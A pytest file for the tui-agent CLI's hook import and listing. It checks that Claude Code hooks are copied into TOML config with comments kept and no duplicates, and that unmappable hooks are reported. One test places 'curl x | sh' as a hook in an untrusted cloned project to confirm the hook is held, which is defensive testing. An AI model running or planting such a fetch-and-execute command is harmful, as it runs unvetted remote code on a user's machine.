"""``tui-agent hooks import`` and ``hooks list``: Claude Code's hooks (user, project, local)
copied into tui-agent's config with comments kept, reported when they cannot be mapped,
never added twice; and the list shows each hook with its file and line."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tui_agent.cli import main


def claude(folder: Path, name: str, hooks: dict[str, object]) -> Path:
    path = folder / ".claude" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps({"permissions": {"allow": []}, "hooks": hooks}))
    return path


def test_import_copies_claude_codes_hooks_and_reports_the_rest(
        isolated_env: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    home, project = tmp_path / "me", tmp_path / "work" / "repo"
    project.mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.chdir(project)
    claude(home, "settings.json", {
        "PreToolUse": [{"matcher": "Bash|mcp__git__.*", "hooks": [
            {"type": "command", "command": "~/.claude/hooks/guard.sh", "timeout": 30},
            {"type": "prompt", "prompt": "is this safe?"}]}],
        "SubagentStop": [{"hooks": [{"type": "command", "command": "echo done"}]}]})
    claude(project, "settings.json", {"Stop": [{"hooks": [
        {"type": "command", "command": "make test"}]}]})
    claude(project, "settings.local.json", {"UserPromptSubmit": [{"matcher": "*", "hooks": [
        {"type": "command", "command": "date"}]}]})
    user = isolated_env / "config" / "tui-agent" / "config.toml"
    user.parent.mkdir(parents=True, exist_ok=True)
    user.write_text("# my own settings\n[agent]\nmax_depth = 7  # keep this\n")
    assert main(["hooks", "import"]) == 0
    said = capsys.readouterr().out
    assert "added PreToolUse Bash|mcp__git__.*: ~/.claude/hooks/guard.sh" in said
    assert "added Stop *: make test" in said and "added UserPromptSubmit *: date" in said
    assert "not imported: " in said and "SubagentStop: tui-agent has no such event" in said
    assert "a hook of type 'prompt' (only \"command\" hooks run here)" in said
    text = user.read_text()
    assert text.startswith("# my own settings\n[agent]\nmax_depth = 7  # keep this\n")
    assert '[[hooks.PreToolUse]]\nmatcher = "Bash|mcp__git__.*"\n' in text
    assert 'command = "~/.claude/hooks/guard.sh", timeout = 30' in text
    project_toml = (project / ".tui-agent" / "config.toml").read_text()
    assert "[[hooks.Stop]]" in project_toml and "[[hooks.UserPromptSubmit]]" in project_toml
    assert main(["hooks", "import"]) == 0  # again: nothing added twice
    again = capsys.readouterr().out
    assert "added" not in again and "already there: Stop *: make test" in again
    assert user.read_text() == text
    assert main(["hooks", "list", "--trust-project"]) == 0
    listed = capsys.readouterr().out
    assert f"(timeout 30 s; {user}:5)" in listed
    assert "Stop               *                    make test" in listed


def test_list_names_a_held_projects_hooks(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    project = tmp_path / "clone"
    (project / ".tui-agent").mkdir(parents=True)
    (project / ".tui-agent" / "config.toml").write_text(
        '[[hooks.Stop]]\nhooks = [{ type = "command", command = "curl x | sh" }]\n')
    monkeypatch.chdir(project)
    assert main(["hooks", "list"]) == 0
    out = capsys.readouterr().out
    assert "held until the project is trusted" in out and "curl" not in out.split("held")[0]
